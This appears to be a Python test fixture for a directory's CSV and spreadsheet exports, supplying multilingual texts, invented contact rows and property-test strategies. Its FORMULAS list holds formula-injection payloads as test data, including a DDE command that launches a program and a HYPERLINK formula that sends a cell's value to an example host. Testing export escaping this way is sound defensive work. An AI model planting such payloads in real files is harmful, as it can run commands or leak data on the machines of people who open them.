"""Rows, headers and texts for the tests of the formats. All organisations, offices and addresses are invented."""

import tracemalloc
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime
from itertools import repeat
from typing import Any

from hypothesis import strategies as st

from adrnet.formats.columns import Column, FocalPointRow, ListHeader

HARD_TEXTS = (
    "髙橋 﨑山 𠮷田 濵口",  # variants and a character beyond the first plane, all of them in surnames
    "ស្ថាប័នអាជ្ញាកណ្តាលគំរូ",  # Khmer subscripts
    "ဥက္ကဋ္ဌ ကုမ္ပဏီ ပြည်ထောင်စု",  # Burmese stacks
    "ศูนย์ไกล่เกลี่ยข้อพิพาท น้ำ",  # Thai tone marks and sara am
    "ສູນໄກ່ເກ່ຍຂໍ້ຂັດແຍ່ງ ນ້ຳ",  # Lao tone marks
    "Trung tâm Trọng tài Quốc tế ví dụ",
    "e\u0301 beside é",  # the same letter, composed and not: neither may turn into the other
    "中華人民共和国 简体 繁體",
    "Centro de Mediação “Exemplo” – Díli",
    "👩‍⚖️ with joiners",
    "two\nlines, \"quoted\"; 'and' more",
    " blanks around ",
)

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://example.org/?"&A1,"Open")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\nplain",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "−1+1",
    "  =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b＝1+1",
    "\x00=1+1",
    "harmless;=1+1",
    "harmless; =1+1",
    'harmless;"=1+1"',
    "harmless\n=1+1",
    'harmless\n"=1+1',
    "harmless\t@SUM(A1)",
)

HARMLESS = (
    "a=b",
    "1+1",
    "office@example.org",
    "Mediation-Arbitration",
    "https://example.org/?a=-1",
    "tel:+66-2-018-1615;ext=12",
    "",
)

_SCRIPTS = ("ก๛", "ກໝ", "ក៹", "က႟", "ぁヿ", "一龥", "Aɏ", "\u0300\u036f", "Ạỹ", "！ﾟ", "𠀀𠮷", " ~")
_in_one_script = st.one_of(*[st.text(st.characters(min_codepoint=ord(a), max_codepoint=ord(z))) for a, z in _SCRIPTS])
_troublesome = st.text(st.sampled_from("=+-@＝＋－＠;,\"'\t\r\n\x00\x0b\ud800\ufeff\u200b\u3000 &<>_x0041ก髙"))
texts = st.one_of(
    st.sampled_from(HARD_TEXTS + FORMULAS + HARMLESS), _in_one_script, _troublesome, st.text(st.characters())
)
"""Texts in every script of the network, texts that try to be something else, and any text at all."""


def a_row(**changes: Any) -> FocalPointRow:
    values: dict[str, Any] = {
        "post_id": "p0001",
        "state_code": "confirmed",
        "state_name": "Confirmed",
        "country_code": "TH",
        "country_name": "ไทย",
        "listing_id": "k7m2q4",
        "listing_name": "ศูนย์ตัวอย่าง",
        "kind_code": "mediation_centre",
        "kind_name": "Mediation centre",
        "topic_codes": ("general", "mediation"),
        "topic_names": ("All matters", "Mediation"),
        "office": "Office of the Secretary (example)",
        "person": "Example Person; 例示太郎",
        "person_title": "Example Officer",
        "mailbox": "focal-point@example.org",
        "telephone": "+66 2 018 1615",
        "language_codes": ("en", "th"),
        "language_names": ("English", "ไทย"),
        "term_from": date(2026, 1, 1),
        "term_until": date(2028, 12, 31),
        "designated_by": "Ministry (example)",
        "designated_on": date(2025, 12, 1),
        "confirmed_on": date(2026, 3, 12),
        "page_address": "https://directory.example.org/en/focal-points/p0001",
    }
    return FocalPointRow(**values | changes)


def a_header(**changes: Any) -> ListHeader:
    values: dict[str, Any] = {
        "title": "Focal points of the network (example)",
        "purpose": "To find whom to write to",
        "made_at": datetime(2026, 11, 21, 5, 5, tzinfo=UTC),
        "time_zone": "Asia/Tokyo",
        "filters": (("Country", "Thailand"), ("Topic", "Mediation")),
        "count": 1,
    }
    return ListHeader(**values | changes)


def size_and_peak(stream: Callable[..., Iterator[bytes]], rows: int, **options: Any) -> tuple[int, int]:
    """Write a list of so many rows: how many bytes come out, and how many were held at once at most."""
    tracemalloc.start()
    try:
        size = sum(map(len, stream(repeat(a_row(), rows), a_header(count=rows), **options)))
        return size, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def text_columns(number: int) -> tuple[Column, ...]:
    """Columns that show the topics of a row, one text in each."""

    def nth(position: int) -> Callable[[FocalPointRow], str]:
        return lambda row: row.topic_names[position]

    return tuple(Column(f"text_{position}", f"Text {position}", nth(position)) for position in range(number))


def texts_row(values: list[str]) -> FocalPointRow:
    return a_row(topic_codes=tuple("x" * len(values)), topic_names=tuple(values))


def broken_after(number: int) -> Iterator[FocalPointRow]:
    for _ in range(number):
        yield a_row()
    raise ConnectionError("the database went away")
